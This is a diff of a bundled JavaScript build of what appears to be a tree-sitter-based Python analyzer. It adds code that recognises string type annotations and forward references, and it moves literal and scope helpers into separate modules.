@@ -3,34 +3,292 @@
 /******/ 	"use strict";
 /******/ 	var __webpack_modules__ = ({
 
-/***/ 4463:
+/***/ 6016:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
-exports.calls = void 0;
+exports.TYPE_CALLS = exports.TYPE_FORMS = void 0;
+exports.isTypeAliasAnnotation = isTypeAliasAnnotation;
+exports.typeStringValue = typeStringValue;
+exports.forwardReferenceNames = forwardReferenceNames;
+exports.isTypeString = isTypeString;
+/**
+ * String annotations: names that Python (or a type checker) reads inside strings used as types,
+ * `"List[Node]"`, `Optional["Node"]`, `cast("Node", x)`, `TypeVar("T", bound="Base")`.
+ *
+ * The scope builder (src/analysis/scope-builder.ts) asks two questions of each string literal it
+ * meets in an annotation or in a typing construct:
+ *
+ * - `isTypeString(node)`: is this literal used as a type (a forward reference)? Decided from the
+ *   literal's place: an annotation or `type` alias value, an argument of a typing form
+ *   (`Optional[...]`, `list[...]`, but not `Literal[...]` nor the metadata of `Annotated[...]`),
+ *   the type argument of `cast`, `TypeVar`, `NewType`, `TypeAliasType`, the fields of functional
+ *   `TypedDict` and `NamedTuple`, the value of an `X: TypeAlias = ...`.
+ * - `forwardReferenceNames(value, language)`: the names the type expression written in the string
+ *   reads, found by parsing it with the file's grammar (strings in it are followed, three levels
+ *   deep); undefined when it is not an expression. Answers are cached by string value: the same
+ *   few annotations recur throughout a code base.
+ *
+ * String values are read by `stringLiteralValue(node, { allowFStrings: false })` (src/analysis/
+ * literals.ts): f-strings and bytes are never types.
+ */
+const web_tree_sitter_1 = __nccwpck_require__(3778);
+const tree_1 = __nccwpck_require__(3036);
+const literals_1 = __nccwpck_require__(8436);
+/** Parents of a `type` node that make it an annotation. */
+const ANNOTATION_OWNERS = new Set(['typed_parameter', 'typed_default_parameter', 'function_definition', 'assignment']);
+/**
+ * Subscripted names whose arguments are type expressions even outside annotations (so strings in
+ * them are forward references): `Optional["Node"]`, `list["Node"]`. Over-approximating only makes
+ * more names count as read, never fewer.
+ */
+exports.TYPE_FORMS = new Set([
+    'Optional', 'Union', 'List', 'Dict', 'Set', 'FrozenSet', 'Tuple', 'Type', 'Callable', 'Iterable',
+    'Iterator', 'Sequence', 'MutableSequence', 'Mapping', 'MutableMapping', 'AbstractSet', 'MutableSet',
+    'Collection', 'Container', 'Reversible', 'Generator', 'AsyncGenerator', 'AsyncIterable',
+    'AsyncIterator', 'Awaitable', 'Coroutine', 'ClassVar', 'Final', 'DefaultDict', 'OrderedDict',
+    'Counter', 'Deque', 'ChainMap', 'ContextManager', 'AsyncContextManager', 'Generic', 'Protocol',
+    'TypeGuard', 'TypeIs', 'Required', 'NotRequired', 'ReadOnly', 'Unpack', 'Concatenate', 'IO',
+    'Pattern', 'Match', 'KeysView', 'ValuesView', 'ItemsView', 'MappingView', 'TypeAlias',
+    'list', 'dict', 'set', 'frozenset', 'tuple', 'type',
+]);
+/** Calls whose string arguments can be types: `cast("T", x)`, `TypeVar("T", bound="B")`, ... */
+exports.TYPE_CALLS = new Set(['cast', 'TypeVar', 'NewType', 'TypeAliasType', 'TypedDict', 'NamedTuple']);
+/** `X: TypeAlias = ...` (or `typing.TypeAlias`): the annotation text says the value is a type. */
+function isTypeAliasAnnotation(annotation) {
+    return /(^|\.)TypeAlias$/.test(annotation.trim());
+}
+/** The value of a string literal that can be a type: no f-strings, no bytes. */
+function typeStringValue(node) {
+    return (0, literals_1.stringLiteralValue)(node, { allowFStrings: false });
+}
+/** Last component of a dotted callee or subscript base: `Literal` for `typing.Literal`. */
+function lastName(node) {
+    if (!node)
+        return undefined;
+    if (node.type === 'identifier')
+        return node.text;
+    if (node.type === 'attribute')
+        return node.childForFieldName('attribute')?.text;
+    return undefined;
+}
+let snippetParser;
+/** A parser for string annotations, sharing the language of the file's tree. */
+function parserFor(language) {
+    if (!snippetParser || snippetParser.language !== language) {
+        snippetParser?.parser.delete();
+        const parser = new web_tree_sitter_1.Parser();
+        parser.setLanguage(language);
+        snippetParser = { language, parser };
+    }
+    return snippetParser.parser;
+}
+/** Names of recently seen string annotations (the same few recur throughout a code base). */
+const forwardReferenceCache = new Map();
+/**
+ * Names read by a type expression written in a string, or undefined when the string is not a
+ * valid expression (Python would reject it as an annotation too).
+ */
+function forwardReferenceNames(value, language, depth = 0) {
+    if (depth === 0 && forwardReferenceCache.has(value))
+        return forwardReferenceCache.get(value);
+    const names = parseForwardReference(value, language, depth);
+    if (depth === 0) {
+        if (forwardReferenceCache.size >= 2000)
+            forwardReferenceCache.clear();
+        forwardReferenceCache.set(value, names);
+    }
+    return names;
+}
+function parseForwardReference(value, language, depth) {
+    const expression = value.trim();
+    if (expression === '' || depth > 3)
+        return undefined;
+    // Parenthesised, like the implicit parentheses of an annotation, so that line breaks are fine.
+    const source = `(${expression}\n)`;
+    const parsed = parserFor(language).parse(source);
+    if (!parsed)
+        return undefined;
+    let tree;
+    try {
+        tree = tree_1.SyntaxTree.from(parsed, source);
+    }
+    finally {
+        parsed.delete();
+    }
+    const root = tree.rootNode;
+    if (root.hasError || root.namedChildCount !== 1)
+        return undefined;
+    const statement = root.namedChild(0);
+    if (!statement || statement.type !== 'expression_statement' || statement.namedChildCount !== 1)
+        return undefined;
+    const names = [];
+    collectTypeExpressionNames(statement.namedChild(0), true, names, { language, depth });
+    return names;
+}
+/**
+ * Names read by an expression parsed from a string annotation. `typeContext` is false inside
+ * `Literal[...]` and the metadata of `Annotated[...]`, where strings are values, not types.
+ */
+function collectTypeExpressionNames(node, typeContext, out, snippet) {
+    switch (node.type) {
+        case 'identifier':
+            out.push(node.text);
+            return;
+        case 'attribute': {
+            const object = node.childForFieldName('object');
+            if (object)
+                collectTypeExpressionNames(object, typeContext, out, snippet);
+            return;
+        }
+        case 'keyword_argument': {
+            const value = node.childForFieldName('value');
+            if (value)
+                collectTypeExpressionNames(value, typeContext, out, snippet);
+            return;
+        }
+        case 'string':
+        case 'concatenated_string': {
+            const value = typeContext ? typeStringValue(node) : undefined;
+            if (value !== undefined) {
+                out.push(...(forwardReferenceNames(value, snippet.language, snippet.depth + 1) ?? []));
+                return;
+            }
+            break; // f-strings: their interpolations are ordinary expressions
+        }
+        case 'subscript': {
+            const base = node.childForFieldName('value');
+            if (base)
+                collectTypeExpressionNames(base, typeContext, out, snippet);
+            const name = lastName(base);
+            let index = 0;
+            for (const slice of node.childrenForFieldName('subscript')) {
+                if (!slice)
+                    continue;
+                const inner = typeContext && name !== 'Literal' && !(name === 'Annotated' && index > 0);
+                collectTypeExpressionNames(slice, inner, out, snippet);
+                index++;
+            }
+            return;
+        }
+    }
+    for (const child of node.namedChildren) {
+        if (child)
+            collectTypeExpressionNames(child, typeContext, out, snippet);
+    }
+}
+/** True when the string literal `node` is used as a type (a forward reference). */
+function isTypeString(node) {
+    let current = node;
+    for (;;) {
+        const parent = current.parent;
+        if (!parent)
+            return false;
+        switch (parent.type) {
+            case 'concatenated_string':
+            case 'tuple':
+            case 'list':
+            case 'dictionary':
+            case 'parenthesized_expression':
+            case 'binary_operator':
+            case 'expression_list':
+            case 'union_type':
+            case 'constrained_type':
+            case 'member_type':
+                current = parent;
+                continue;
+            case 'pair':
+                // The field types of `TypedDict("T", {"name": "Type"})`; keys are never types.
+                if (parent.childForFieldName('value')?.id !== current.id)
+                    return false;
+                current = parent;
+                continue;
+            case 'type': {
+                const owner = parent.parent;
+                if (owner && (ANNOTATION_OWNERS.has(owner.type) || owner.type === 'type_alias_statement'))
+                    return true;
+                current = parent;
+                continue;
+            }
+            case 'type_parameter': {
+                const owner = parent.parent;
+                if (owner?.type !== 'generic_type')
+                    return true; // a PEP 695 bound
+                const name = owner.firstNamedChild?.text;
+                if (name === 'Literal')
+                    return false;
+                if (name === 'Annotated' && parent.firstNamedChild?.id !== current.id)
+                    return false;
+                if (name === 'Annotated' || exports.TYPE_FORMS.has(name ?? ''))
+                    return true;
+                current = owner;
+                continue;
+            }
+            case 'subscript': {
+                const base = parent.childForFieldName('value');
+                if (!base || base.id === current.id)
+                    return false;
+                const name = lastName(base);
+                if (name === 'Literal')
+                    return false;
+                if (name === 'Annotated')
+                    return parent.childForFieldName('subscript')?.id === current.id;
+                if (exports.TYPE_FORMS.has(name ?? ''))
+                    return true;
+                current = parent;
+                continue;
+            }
+            case 'argument_list': {
+                const call = parent.parent;
+                const callee = lastName(call?.childForFieldName('function') ?? null);
+                const positional = parent.namedChildren.filter((c) => c && c.type !== 'keyword_argument' && c.type !== 'comment');
+                const position = positional.findIndex((c) => c?.id === current.id);
+                if (callee === 'cast')
+                    return position === 0;
+                if (callee === 'TypeVar')
+                    return position > 0;
+                if (callee === 'NewType' || callee === 'TypeAliasType')
+                    return position === 1;
+                // Functional `TypedDict("T", {...})` and `NamedTuple("T", [("name", "Type")])`.
+                if (callee === 'TypedDict' || callee === 'NamedTuple')
+                    return position === 1;
+                return false;
+            }
+            case 'assignment': {
+                // `X: TypeAlias = "Node | None"`: the value is a type expression.
+                const annotation = parent.childForFieldName('type');
+                if (!annotation || parent.childForFieldName('right')?.id !== current.id)
+                    return false;
+                return isTypeAliasAnnotation(annotation.text);
+            }
+            case 'keyword_argument': {
+                // `TypeVar("T", bound="Node")`, `NamedTuple("T", name="Type")`, `TypedDict("T", name="Type")`.
+                const callee = lastName(parent.parent?.parent?.childForFieldName('function') ?? null);
+                if (callee === 'TypedDict' || callee === 'NamedTuple')
+                    return true;
+                return callee === 'TypeVar' && parent.childForFieldName('name')?.text === 'bound';
+            }
+            default:
+                return false;
+        }
+    }
+}
+
+
+/***/ }),
+
+/***/ 9950:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.positionalArguments = positionalArguments;
 exports.keywordArgument = keywordArgument;
 exports.keywordValue = keywordValue;
 exports.hasArgumentSplat = hasArgumentSplat;
 exports.argumentAt = argumentAt;
-exports.unparenthesize = unparenthesize;
-exports.stringLiteralValue = stringLiteralValue;
-exports.isPlainStringLiteral = isPlainStringLiteral;
-exports.truthiness = truthiness;
-exports.isTruthyConstant = isTruthyConstant;
-exports.isFalsyConstant = isFalsyConstant;
-const names_1 = __nccwpck_require__(5166);
-// ---------------------------------------------------------------------------------------------
-// Argument helpers
-/** Named children of a node, without comments (tree-sitter keeps comments as named nodes). */
-function namedChildrenOf(node) {
-    const out = [];
-    for (const child of node.namedChildren)
-        if (child && child.type !== 'comment')
-            out.push(child);
-    return out;
-}
+const literals_1 = __nccwpck_require__(8436);
 function argumentsOf(call) {
     return call.type === 'call' ? call.childForFieldName('arguments') : null;
 }
@@ -44,13 +302,10 @@ function positionalArguments(call) {
         return [];
     if (args.type === 'generator_expression')
         return [args];
-    return namedChildrenOf(args).filter((n) => n.type !== 'keyword_argument' && n.type !== 'dictionary_splat');
+    return (0, literals_1.namedChildrenOf)(args).filter((n) => n.type !== 'keyword_argument' && n.type !== 'dictionary_splat');
 }
 const NO_KEYWORDS = new Map();
-/**
- * Key of the tree's cache of keyword arguments by call: rules ask the same call for several
- * keywords, so the argument list is read once per call.
- */
+/** Key of the tree's cache of keyword arguments by call. */
 const KEYWORDS = {};
 function keywordsOf(call) {
     const cache = call.tree.memo(KEYWORDS);
@@ -60,7 +315,7 @@ function keywordsOf(call) {
     keywords = NO_KEYWORDS;
     const args = argumentsOf(call);
     if (args && args.type === 'argument_list') {
-        for (const child of namedChildrenOf(args)) {
+        for (const child of (0, literals_1.namedChildrenOf)(args)) {
             if (child.type !== 'keyword_argument')
                 continue;
             const name = child.childForFieldName('name')?.text;
@@ -93,7 +348,7 @@ function hasArgumentSplat(call) {
     const args = argumentsOf(call);
     if (!args || args.type !== 'argument_list')
         return false;
-    return namedChildrenOf(args).some((n) => n.type === 'list_splat' || n.type === 'dictionary_splat');
+    return (0, literals_1.namedChildrenOf)(args).some((n) => n.type === 'list_splat' || n.type === 'dictionary_splat');
 }
 /**
  * The argument for the parameter at `index` (0-based) that may also be passed as `keyword`:
@@ -109,594 +364,55 @@ function argumentAt(call, index, keyword) {
     }
     return keyword === undefined ? undefined : keywordValue(call, keyword);
 }
+
+
+/***/ }),
+
+/***/ 4463:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.calls = void 0;
+const names_1 = __nccwpck_require__(5166);
+const literals_1 = __nccwpck_require__(8436);
+const scopes_1 = __nccwpck_require__(7985);
 // ---------------------------------------------------------------------------------------------
-// Literal helpers
-/** Strips redundant parentheses: `(("x"))` -> `"x"`. */
-function unparenthesize(node) {
-    let current = node;
-    while (current.type === 'parenthesized_expression') {
-        const inner = namedChildrenOf(current);
-        if (inner.length !== 1)
-            break;
-        current = inner[0];
-    }
-    return current;
-}
-const SIMPLE_ESCAPES = {
-    '\\': '\\', "'": "'", '"': '"', a: '\x07', b: '\b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v',
-};
-/** Decodes the backslash escapes of a non-raw Python string body (unknown escapes stay as written). */
-function decodeEscapes(body, bytes) {
-    return body.replace(/\\(\r\n|\n|x[0-9a-fA-F]{2}|u[0-9a-fA-F]{4}|U[0-9a-fA-F]{8}|[0-7]{1,3}|.)/gs, (whole, esc) => {
-        if (esc === '\n' || esc === '\r\n')
-            return '';
-        if (esc in SIMPLE_ESCAPES)
-            return SIMPLE_ESCAPES[esc];
-        if (/^[0-7]/.test(esc))
-            return String.fromCharCode(parseInt(esc, 8));
-        if (esc[0] === 'x')
-            return String.fromCharCode(parseInt(esc.slice(1), 16));
-        if (!bytes && (esc[0] === 'u' || esc[0] === 'U')) {
-            const code = parseInt(esc.slice(1), 16);
-            return code <= 0x10ffff ? String.fromCodePoint(code) : whole;
-        }
-        return whole;
-    });
-}
-/** Value of one `string` node with no interpolation; undefined for f-string fields, t-strings, bytes (unless allowed). */
-function singleStringValue(node, allowBytes) {
-    const children = node.namedChildren;
-    const types = children.map((c) => c?.type);
-    const start = children[types.indexOf('string_start')];
-    const end = children[types.indexOf('string_end')];
-    if (!start || !end)
-        return undefined;
-    const prefix = start.text.replace(/['"]+$/, '').toLowerCase();
-    if (prefix.includes('t'))
-        return undefined; // template strings (3.14) are not str
-    const bytes = prefix.includes('b');
-    if (bytes && !allowBytes)
-        return undefined;
-    if (types.includes('interpolation'))
-        return undefined;
-    let body = node.text.slice(start.endIndex - node.startIndex, end.startIndex - node.startIndex);
-    if (!prefix.includes('r'))
-        body = decodeEscapes(body, bytes);
-    if (prefix.includes('f'))
-        body = body.replace(/\{\{/g, '{').replace(/\}\}/g, '}');
-    return body;
-}
-/**
- * The value of a string literal with no interpolation: a plain or raw string, an f-string
- * without fields, or a concatenation of such strings (implicit `"a" "b"`, or `"a" + "b"`), in
- * parentheses or not. Bytes literals count only with `allowBytes`. Undefined for anything else.
- */
-function stringLiteralValue(node, options = {}) {
-    const allowBytes = options.allowBytes ?? false;
-    // Several rules ask for the value of the same node (each string the walk visits).
-    const cache = node.tree.memo(allowBytes ? BYTES_LITERALS : LITERALS);
-    if (cache.has(node.id))
-        return cache.get(node.id);
-    const value = literalValue(node, allowBytes);
-    cache.set(node.id, value);
-    return value;
-}
-/** Keys of the tree's caches of literal values (undefined: not a plain literal). */
-const LITERALS = {};
-const BYTES_LITERALS = {};
-function literalValue(node, allowBytes) {
-    const options = { allowBytes };
-    const expr = unparenthesize(node);
-    switch (expr.type) {
-        case 'string':
-            return singleStringValue(expr, allowBytes);
-        case 'concatenated_string': {
-            let value = '';
-            for (const part of namedChildrenOf(expr)) {
-                const piece = part.type === 'string' ? singleStringValue(part, allowBytes) : undefined;
-                if (piece === undefined)
-                    return undefined;
-                value += piece;
-            }
-            return value;
-        }
-        case 'binary_operator': {
-            // `a + b + c` nests to the left: walk down the left spine instead of recursing, so a
-            // concatenation of any length cannot overflow the stack.
-            const rights = [];
-            let current = expr;
-            while (current.type === 'binary_operator') {
-                if (current.childForFieldName('operator')?.type !== '+')
-                    return undefined;
-                const left = current.childForFieldName('left');
-                const right = current.childForFieldName('right');
-                if (!left || !right)
-                    return undefined;
-                rights.push(right);
-                current = unparenthesize(left);
-            }
-            let value = stringLiteralValue(current, options);
-            for (let i = rights.length - 1; i >= 0 && value !== undefined; i--) {
-                const piece = stringLiteralValue(rights[i], options);
-                value = piece === undefined ? undefined : value + piece;
-            }
-            return value;
-        }
-        default:
-            return undefined;
-    }
-}
-/** True when `node` is a string literal with no interpolation (see `stringLiteralValue`). */
-function isPlainStringLiteral(node, options = {}) {
-    return stringLiteralValue(node, options) !== undefined;
-}
-/** Whether a numeric literal's value is non-zero (handles `0x0`, `0.0e5`, `0j`, `1_000`). */
-function numberIsNonZero(text) {
-    let t = text.replace(/_/g, '').toLowerCase();
-    if (t.endsWith('j') || t.endsWith('l'))
-        t = t.slice(0, -1);
-    if (t.startsWith('0x'))
-        return /[1-9a-f]/.test(t.slice(2));
-    if (t.startsWith('0o') || t.startsWith('0b'))
-        return /[1-9]/.test(t.slice(2));
-    const mantissa = t.split('e')[0];
-    return /[1-9]/.test(mantissa);
-}
-/** Truth value of a `string` node: non-empty literal text makes it true whatever its fields. */
-function stringTruthiness(node) {
-    const plain = singleStringValue(node, true);
-    if (plain !== undefined)
-        return plain.length > 0;
-    const start = node.namedChildren.find((c) => c?.type === 'string_start');
-    if (start && start.text.replace(/['"]+$/, '').toLowerCase().includes('t'))
-        return true; // a Template object
-    if (node.namedChildren.some((c) => c?.type === 'string_content' && c.text.length > 0))
-        return true;
-    return undefined;
-}
-/**
- * The truth value of a constant expression, when it is known without running anything: `True`,
- * non-zero numbers, non-empty strings and non-empty `[...]`, `(...)`, `{...}` displays, `...`,
- * lambdas are true; `False`, `None`, zero, empty strings and empty displays are false; `not`
- * and unary `+`/`-` are followed. Anything else (names, calls, comparisons, displays made only
- * of `*x` splats) is undefined.
- */
-function truthiness(node) {
-    const expr = unparenthesize(node);
-    switch (expr.type) {
-        case 'true':
-        case 'ellipsis':
-        case 'lambda':
-            return true;
-        case 'false':
-        case 'none':
-            return false;
-        case 'integer':
-        case 'float':
-            return numberIsNonZero(expr.text);
-        case 'string':
-            return stringTruthiness(expr);
-        case 'concatenated_string': {
-            let all = false;
-            for (const part of namedChildrenOf(expr)) {
-                const value = part.type === 'string' ? stringTruthiness(part) : undefined;
-                if (value === true)
-                    return true;
-                if (value === undefined)
-                    all = undefined;
-            }
-            return all;
-        }
-        case 'list':
-        case 'tuple':
-        case 'set':
-        case 'dictionary': {
-            const items = namedChildrenOf(expr);
-            if (items.length === 0)
-                return false;
-            // `[*a]` or `{**a}` may be empty; one ordinary element makes the display non-empty.
-            return items.some((item) => item.type !== 'list_splat' && item.type !== 'dictionary_splat') ? true : undefined;
-        }
-        case 'not_operator': {
-            const argument = expr.childForFieldName('argument');
-            const value = argument ? truthiness(argument) : undefined;
-            return value === undefined ? undefined : !value;
-        }
-        case 'unary_operator': {
-            const operator = expr.childForFieldName('operator')?.type;
-            const argument = expr.childForFieldName('argument');
-            if ((operator !== '-' && operator !== '+') || !argument)
-                return undefined;
-            const inner = unparenthesize(argument);
-            return inner.type === 'integer' || inner.type === 'float' || inner.type === 'unary_operator' ? truthiness(inner) : undefined;
-        }
-        default:
-            return undefined;
-    }
-}
-/** True when the node is a constant known to be true (`True`, `1`, `"x"`, `[0]`, ...). */
-function isTruthyConstant(node) {
-    return truthiness(node) === true;
-}
-/** True when the node is a constant known to be false (`False`, `None`, `0`, `""`, `[]`, ...). */
-function isFalsyConstant(node) {
-    return truthiness(node) === false;
-}
-class Scope {
-    kind;
-    start;
-    end;
-    parent;
-    bodyId;
-    children = [];
-    bindings = new Map();
-    stars = [];
-    /** Names declared `global` / `nonlocal`: undefined until the first (most scopes have none). */
-    globals;
-    nonlocals;
-    /** Ranges `[start, end]` of loop bodies whose code can run again after later code of this scope. */
-    loops = [];
-    constructor(kind, 
-    /** Source range of the code that runs in this scope (a function's body, not its defaults). */
-    start, end, parent, 
-    /** For function and class scopes: the id of the body block whose entry activates the scope. */
-    bodyId) {
-        this.kind = kind;
-        this.start = start;
-        this.end = end;
-        this.parent = parent;
-        this.bodyId = bodyId;
-        parent?.children.push(this);
-    }
-    bind(name, binding) {
-        const list = this.bindings.get(name);
-        if (list)
-            list.push(binding);
-        else
-            this.bindings.set(name, [binding]);
-    }
-    /** True when some loop of this scope contains both positions (a later binding can reach back). */
-    sharesLoop(a, b) {
-        return this.loops.some(([start, end]) => start <= a && a <= end && start <= b && b <= end);
-    }
-    get functionLike() {
-        return this.kind === 'function' || this.kind === 'lambda' || this.kind === 'comprehension';
-    }
-}
-/** Python 3 builtin functions and types (exceptions left out: no rule asks about calling them). */
-const BUILTINS = new Set(('abs aiter all anext any ascii bin bool breakpoint bytearray bytes callable chr classmethod compile complex ' +
-    'copyright credits delattr dict dir divmod enumerate eval exec exit filter float format frozenset getattr ' +
-    'globals hasattr hash help hex id input int isinstance issubclass iter len license list locals map max ' +
-    'memoryview min next object oct open ord pow print property quit range repr reversed round set setattr ' +
-    'slice sorted staticmethod str sum super tuple type vars zip __import__').split(' '));
-/** Identifiers bound by an assignment-like target (`a`, `a, (b, *c)`, `[a, b]`); attributes and subscripts bind nothing. */
-function targetNames(node) {
-    switch (node.type) {
-        case 'identifier':
-            return [node.text];
-        case 'pattern_list':
-        case 'tuple_pattern':
-        case 'list_pattern':
-        case 'expression_list':
-        case 'tuple':
-        case 'list':
-        case 'parenthesized_expression':
-        case 'list_splat_pattern':
-        case 'list_splat':
-        case 'as_pattern_target':
-            return namedChildrenOf(node).flatMap(targetNames);
-        default:
-            return [];
-    }
-}
-/** Names bound by a function's or lambda's parameter list. */
-function parameterNames(parameters) {
-    if (!parameters)
-        return [];
-    const names = [];
-    const visit = (node) => {
-        switch (node.type) {
-            case 'identifier':
-                names.push(node.text);
-                break;
-            case 'default_parameter':
-            case 'typed_default_parameter': {
-                const name = node.childForFieldName('name');
-                if (name)
-                    visit(name);
-                break;
-            }
-            case 'typed_parameter':
-            case 'list_splat_pattern':
-            case 'dictionary_splat_pattern': {
-                const first = namedChildrenOf(node).find((c) => c.type !== 'type');
-                if (first)
-                    visit(first);
-                break;
-            }
-            case 'tuple_pattern': // Python 2 `def f((a, b))`
-                names.push(...targetNames(node));
-                break;
-            default:
-                break;
-        }
-    };
-    for (const child of namedChildrenOf(parameters))
-        visit(child);
-    return names;
-}
-/** `a . b . c` -> `a.b.c` (tree-sitter keeps whitespace and comments inside dotted names). */
-function dottedText(node) {
-    return namedChildrenOf(node)
-        .filter((c) => c.type === 'identifier')
-        .map((c) => c.text)
-        .join('.');
-}
-/** The callee as a dotted chain of names (`sp.Popen`), or undefined for anything else. */
-function writtenChain(node) {
-    // Iterative: `a.b.c...` chains of any length must not overflow the stack.
-    const parts = [];
-    let expr = unparenthesize(node);
-    while (expr.type === 'attribute') {
-        const object = expr.childForFieldName('object');
-        const attribute = expr.childForFieldName('attribute');
-        if (!object || !attribute)
-            return undefined;
-        parts.push(attribute.text);
-        expr = unparenthesize(object);
-    }
-    if (expr.type !== 'identifier')
-        return undefined;
-    parts.push(expr.text);
-    return parts.reverse().join('.');
-}
-/** How deep alias chains (`a = b`, `b = c.d`, ...) are followed before giving up. */
-const MAX_ALIAS_DEPTH = 8;
+// The analysis
 exports.calls = {
     name: 'calls',
+    uses: [scopes_1.scopes],
     create(context) {
-        const root = context.tree.rootNode;
-        const module = new Scope('module', root.startIndex, root.endIndex, undefined);
-        const stack = [module];
-        /** Function and class scopes created at their definition, entered with their body block. */
-        const pendingBodies = new Map();
-        /** Lambda and comprehension scopes, popped on exit of the node that opened them. */
-        const openedBy = new Map();
-        const callNodes = [];
-        const current = () => stack[stack.length - 1];
-        const other = (at, anytime = false) => ({ kind: 'other', at, anytime });
-        /** Binding for `name = value` (the innermost value of `a = b = value`). */
-        const assignmentBinding = (value, at) => {
-            if (!value)
-                return other(at); // `x: int` makes `x` local in a function: treat as unknown
-            const expr = unparenthesize(value);
-            if (expr.type === 'none')
-                return { kind: 'none', at, anytime: false };
-            if (writtenChain(expr) !== undefined)
-                return { kind: 'alias', value: expr, at, anytime: false };
-            return other(at);
-        };
-        const openScope = (kind, node, range) => {
-            const scope = new Scope(kind, range.startIndex, range.endIndex, current());
-            openedBy.set(node.id, scope);
-            stack.push(scope);
-            return scope;
-        };
-        const closeScope = (node) => {
-            const scope = openedBy.get(node.id);
-            if (scope && current() === scope)
-                stack.pop();
-        };
-        const openComprehension = (node) => void openScope('comprehension', node, node);
-        const visitor = {
-            function_definition(node) {
-                const name = node.childForFieldName('name');
-                if (name)
-                    current().bind(name.text, other(node.endIndex));
-                const body = node.childForFieldName('body');
-                if (!body)
-                    return;
-                const scope = new Scope('function', body.startIndex, body.endIndex, current(), body.id);
-                for (const param of parameterNames(node.childForFieldName('parameters')))
-                    scope.bind(param, other(-1, true));
-                pendingBodies.set(body.id, scope);
-            },
-            class_definition(node) {
-                const name = node.childForFieldName('name');
-                if (name)
-                    current().bind(name.text, other(node.endIndex));
-                const body = node.childForFieldName('body');
-                if (!body)
-                    return;
-                pendingBodies.set(body.id, new Scope('class', body.startIndex, body.endIndex, current(), body.id));
-            },
-            block(node) {
-                const scope = pendingBodies.get(node.id);
-                if (scope) {
-                    pendingBodies.delete(node.id);
-                    stack.push(scope);
-                }
-            },
-            'block:exit'(node) {
-                if (current().bodyId === node.id && stack.length > 1)
-                    stack.pop();
-            },
-            lambda(node) {
-                const body = node.childForFieldName('body');
-                const scope = openScope('lambda', node, body ?? node);
-                for (const param of parameterNames(node.childForFieldName('parameters')))
-                    scope.bind(param, other(-1, true));
-            },
-            'lambda:exit': closeScope,
-            list_comprehension: openComprehension,
-            set_comprehension: openComprehension,
-            dictionary_comprehension: openComprehension,
-            generator_expression: openComprehension,
-            'list_comprehension:exit': closeScope,
-            'set_comprehension:exit': closeScope,
-            'dictionary_comprehension:exit': closeScope,
-            'generator_expression:exit': closeScope,
-            for_in_clause(node) {
-                // Comprehension targets: the body that uses them stands before them in the text.
-                const left = node.childForFieldName('left');
-                if (left)
-                    for (const name of targetNames(left))
-                        current().bind(name, other(-1, true));
-            },
-            import_statement(node) {
-                for (const item of node.childrenForFieldName('name')) {
-                    if (!item)
-                        continue;
-                    if (item.type === 'dotted_name') {
-                        // `import a.b.c` binds `a`, the top-level package.
-                        const top = dottedText(item).split('.')[0];
-                        if (top)
-                            current().bind(top, { kind: 'import', qualifiedName: top, at: node.endIndex, anytime: false });
-                    }
-                    else if (item.type === 'aliased_import') {
-                        const dotted = item.childForFieldName('name');
-                        const alias = item.childForFieldName('alias');
-                        if (dotted && alias) {
-                            current().bind(alias.text, { kind: 'import', qualifiedName: dottedText(dotted), at: node.endIndex, anytime: false });
-                        }
-                    }
-                }
-            },
-            import_from_statement(node) {
-                const moduleName = node.childForFieldName('module_name');
-                // Relative imports name a module of an unknown package: their names stay unresolved.
-                const base = moduleName?.type === 'dotted_name' ? dottedText(moduleName) : undefined;
-                if (namedChildrenOf(node).some((c) => c.type === 'wildcard_import')) {
-                    current().stars.push({ kind: 'star', at: node.endIndex, anytime: false });
-                    return;
-                }
-                for (const item of node.childrenForFieldName('name')) {
-                    if (!item)
-                        continue;
-                    const dotted = item.type === 'aliased_import' ? item.childForFieldName('name') : item;
-                    const bound = item.type === 'aliased_import' ? item.childForFieldName('alias') : item;
-                    if (!dotted || !bound)
-                        continue;
-                    const boundName = bound.type === 'dotted_name' ? dottedText(bound) : bound.text;
-                    current().bind(boundName, base !== undefined
-                        ? { kind: 'import', qualifiedName: `${base}.${dottedText(dotted)}`, at: node.endIndex, anytime: false }
-                        : other(node.endIndex));
-                }
-            },
-            assignment(node) {
-                const left = node.childForFieldName('left');
-                if (!left)
-                    return;
-                let value = node.childForFieldName('right');
-                while (value && value.type === 'assignment')
-                    value = value.childForFieldName('right');
-                // Only a single name gets the value's meaning; unpacking binds unknown values.
-                if (left.type === 'identifier')
-                    current().bind(left.text, assignmentBinding(value, node.endIndex));
-                else
-                    for (const name of targetNames(left))
-                        current().bind(name, other(node.endIndex));
-            },
-            augmented_assignment(node) {
-                const left = node.childForFieldName('left');
-                if (left)
-                    for (const name of targetNames(left))
-                        current().bind(name, other(node.endIndex));
-            },
-            named_expression(node) {
-                // `:=` binds in the nearest enclosing scope that is not a comprehension.
-                const name = node.childForFieldName('name');
-                let scope = current();
-                while (scope.kind === 'comprehension' && scope.parent)
-                    scope = scope.parent;
-                if (name)
-                    scope.bind(name.text, assignmentBinding(node.childForFieldName('value'), node.endIndex));
-            },
-            for_statement(node) {
-                const left = node.childForFieldName('left');
-                const right = node.childForFieldName('right');
-                const body = node.childForFieldName('body');
-                const at = right?.endIndex ?? node.endIndex;
-                if (left)
-                    for (const name of targetNames(left))
-                        current().bind(name, other(at));
-                if (body)
-                    current().loops.push([body.startIndex, body.endIndex]);
-            },
-            while_statement(node) {
-                const condition = node.childForFieldName('condition');
-                const body = node.childForFieldName('body');
-                if (body)
-                    current().loops.push([(condition ?? body).startIndex, body.endIndex]);
-            },
-            as_pattern(node) {
-                // `with a as b`, `except E as e` (target in as_pattern_target) and `case P as name`.
-                const target = namedChildrenOf(node).find((c) => c.type === 'as_pattern_target');
-                if (target) {
-                    for (const name of targetNames(target))
-                        current().bind(name, other(node.endIndex));
-                    return;
-                }
-                const children = namedChildrenOf(node);
-                const last = children[children.length - 1];
-                if (children.length > 1 && last.type === 'identifier')
-                    current().bind(last.text, other(node.endIndex));
-            },
-            case_pattern(node) {
-                // Capture patterns: a bare name (`case x:`, `[x, *rest]`, `{"k": x, **kw}`).
-                for (const child of namedChildrenOf(node)) {
-                    let captured;
